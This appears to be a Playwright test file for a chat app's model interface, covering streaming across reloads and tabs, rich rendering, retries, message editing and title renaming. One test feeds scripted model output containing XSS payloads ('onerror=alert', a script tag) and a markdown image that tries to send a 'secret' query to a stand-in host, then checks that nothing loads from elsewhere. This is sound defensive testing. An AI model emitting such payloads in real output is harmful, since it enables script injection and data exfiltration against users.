import { screenshot } from '../../fixtures/screenshot.ts'
import { expect, test } from '../../fixtures/test.ts'

const gate = () => Promise.withResolvers<void>()

test.describe('with a language model', () => {
  test.beforeEach(async ({ person }) => {
    await person.goto('/chat')
    await person.getByRole('button', { name: /^Model:/ }).click()
    await person.getByRole('menuitem', { name: /scripted/ }).click()
  })

  test(
    'CHT-01 an answer continues through a reload and in a second tab, and is stopped from there',
    { tag: '@replicas' },
    async ({ person, model, context }) => {
      const mayContinue = gate()
      model.script = async (_request, reply) => {
        reply.text('The first half, ')
        await mayContinue.promise
        reply.text('the second half.')
      }
      await person.getByRole('textbox', { name: /Ask anything/ }).fill('Tell me a story')
      await person.keyboard.press('Enter')
      const answer = person.getByRole('article', { name: 'Answer' })
      await expect(answer).toContainText('The first half')
      await person.reload()
      await expect(answer).toContainText('The first half')
      const secondPage = await context.newPage()
      await secondPage.goto(person.url())
      await expect(secondPage.getByRole('article', { name: 'Answer' })).toContainText('The first half')
      mayContinue.resolve()
      await expect(answer).toContainText('the second half.')
      await secondPage.getByRole('button', { name: 'Stop' }).click()
      await expect(answer).toContainText('This answer was stopped.')
      await expect(answer).toContainText('the second half.')
      await expect(person.getByRole('button', { name: 'Send' })).toBeVisible()
    },
  )

  test('CHT-02 renders Markdown, tables, formulas, code, a diagram and reasoning, and loads nothing from elsewhere', async ({
    person,
    model,
    atelier,
  }) => {
    const externalRequests: string[] = []
    person.on('request', (request) => {
      if (!request.url().startsWith(atelier.url) && !/^(data|blob):/.test(request.url()))
        externalRequests.push(request.url())
    })
    model.script = (_request, reply) => {
      reply.text('<think>Let me **think**.</think>')
      reply.text(
        '## Heading\n\nSome *text* with [a link](https://example.org) and <img src=x onerror=alert(1)>.\n\n',
      )
      reply.text('| a | b |\n|---|---|\n| 1 | 2 |\n\n$$e^{i\\pi} + 1 = 0$$\n\n')
      reply.text('```ts\nconst lamp: number = 417\n```\n\n```mermaid\ngraph TD; A-->B\n```\n\n')
      reply.text('![steal](https://example.org/steal?q=secret)\n\n<script>alert(2)</script>')
      reply.end()
    }
    await person.getByRole('textbox', { name: /Ask anything/ }).fill('Show me everything')
    await person.keyboard.press('Enter')
    const answer = person.getByRole('article', { name: 'Answer' })
    await expect(answer.getByRole('heading', { name: 'Heading' })).toBeVisible()
    await expect(answer.getByRole('cell', { name: '2' })).toBeVisible()
    await expect(answer.locator('.katex').first()).toBeVisible()
    await expect(answer.getByText('const lamp: number = 417')).toBeVisible()
    await expect(answer.getByRole('img', { name: /^Diagram/ })).toBeVisible()
    await expect(answer.getByText('Thought process')).toBeVisible()
    await screenshot(person, 'chat-rich-desktop-light')
    const link = answer.getByRole('link', { name: 'a link' })
    await expect(link).toHaveAttribute('target', '_blank')
    await expect(link).toHaveAttribute('rel', /nofollow/)
    await expect(answer.getByRole('link', { name: /steal/ })).toBeVisible()
    expect(externalRequests).toEqual([])
  })

  test('CHT-01 a failing model is reported, the question is kept, and Try again answers it', async ({
    person,
    model,
  }) => {
    model.script = (_request, reply) => reply.fail(429, 'Slow down')
    await person.getByRole('textbox', { name: /Ask anything/ }).fill('Are you there?')
    await person.keyboard.press('Enter')
    const answer = person.getByRole('article', { name: 'Answer' })
    await expect(answer).toContainText('Your question was kept.')
    model.script = (_request, reply) => {
      reply.text('Now I am.')
      reply.end()
    }
    await answer.getByRole('button', { name: 'Try again' }).click()
    await expect(person.getByRole('main').getByText('Now I am.')).toBeVisible()
    await expect(person.getByText('Are you there?').first()).toBeVisible()
    await person.getByRole('button', { name: 'Previous version' }).click()
    await expect(person.getByRole('article', { name: 'Answer' })).toContainText('Your question was kept.')
  })

  test('CHT-01 an edited question keeps the original next to it', async ({ person, model }) => {
    model.script = (_request, reply) => {
      reply.text('An answer.')
      reply.end()
    }
    await person.getByRole('textbox', { name: /Ask anything/ }).fill('First wording')
    await person.keyboard.press('Enter')
    await expect(person.getByRole('main').getByText('An answer.')).toBeVisible()
    await person.getByRole('article', { name: 'You' }).hover()
    await person.getByRole('button', { name: 'Edit message' }).click()
    await person.getByLabel('Edit your message').fill('Second wording')
    await person.getByRole('button', { name: 'Resend' }).click()
    await expect(person.getByRole('article', { name: 'You' })).toContainText('Second wording')
    await person.getByRole('button', { name: 'Previous version' }).first().click()
    await expect(person.getByRole('article', { name: 'You' })).toContainText('First wording')
  })

  test('CHT-03 the title comes from the first message and is renamed in place', async ({ person, model }) => {
    model.script = (_request, reply) => {
      reply.text('Yes.')
      reply.end()
    }
    await person.getByRole('textbox', { name: /Ask anything/ }).fill('A first question that names the chat')
    await person.keyboard.press('Enter')
    await person.getByRole('button', { name: 'A first question that names the chat', exact: true }).click()
    await person.getByLabel('Chat title').fill('x'.repeat(101))
    await person.keyboard.press('Enter')
    await expect(person.getByText('Title is too long')).toBeVisible()
    await person.getByLabel('Chat title').fill('Lamps')
    await person.keyboard.press('Enter')
    await expect(person.getByRole('button', { name: 'Lamps', exact: true })).toBeVisible()
    await expect(person.getByRole('link', { name: 'Lamps' })).toBeVisible()
  })
})
